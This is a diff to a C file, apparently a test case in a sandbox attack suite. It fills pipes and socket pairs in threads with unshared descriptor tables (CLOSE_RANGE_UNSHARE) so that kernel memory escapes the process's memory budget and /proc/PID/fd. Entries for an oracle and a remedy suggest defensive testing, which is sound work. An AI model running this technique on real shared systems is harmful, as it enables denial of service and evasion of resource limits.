@@ -3,10 +3,11 @@
  * pipes-of-threads.c - full pipes in tables of descriptors that /proc/PID/fd does not show.
  *
  * Goal:  more memory than the budget.
- * Means: threads with tables of their own (CLOSE_RANGE_UNSHARE) fill 30 pipes each: 56 MiB that are
- * in no sum. The rest of the budget is an ordinary heap.
+ * Means: threads with tables of their own (CLOSE_RANGE_UNSHARE) fill 16 pipes and 7 pairs of sockets
+ * each: 110 MiB that are in no sum. The rest of the budget is an ordinary heap.
  */
 #include "attacks/attack.h"
+#include "attacks/memory-bomb/tables.h"
 
 #include <fcntl.h>
 #include <pthread.h>
@@ -16,20 +17,16 @@
 #include <sys/syscall.h>
 #include <unistd.h>
 
-enum { THREADS = 30, PIPES = 30, UNSHARE = 2 };
+enum { THREADS = 30, UNSHARE = 2 };
 
 static char block[64 << 10];
 
 static void *fill(void *unused)
 {
-	int p[2];
-
 	(void)unused;
 	if (syscall(SYS_close_range, ~0u, ~0u, UNSHARE))
 		return NULL;
-	for (int i = 0; i < PIPES && !pipe2(p, O_NONBLOCK); i++)
-		if (write(p[1], block, sizeof(block)) < 0)
-			break;
+	fill_table(block, sizeof(block));
 	sleep(4);
 	return NULL;
 }
@@ -59,9 +56,10 @@ static enum claim run(const struct brief *b)
 
 const struct attack attack = {
 	.effect = "more of the kernel's memory than the budget",
-	.means = "threads that have tables of descriptors of their own, full of pipes; and a heap",
+	.means = "threads that have tables of descriptors of their own, full of pipes and "
+		 "sockets; and a heap",
 	.oracle = "usage:memory",
-	.threshold = 300ul << 20, /* the heap is within the budget; the pipes alone are above it */
+	.threshold = 305ul << 20, /* the heap is within the budget; the tables are 100 MiB above it */
 	.attack_id = "T1499.001, CWE-770",
 	.remedy = "no CLOSE_RANGE_UNSHARE, CLONE_THREAD with CLONE_FILES only; a memory cgroup",
 	.refs = (const char *const[]){ "close_range(2)", "clone(2)", NULL },
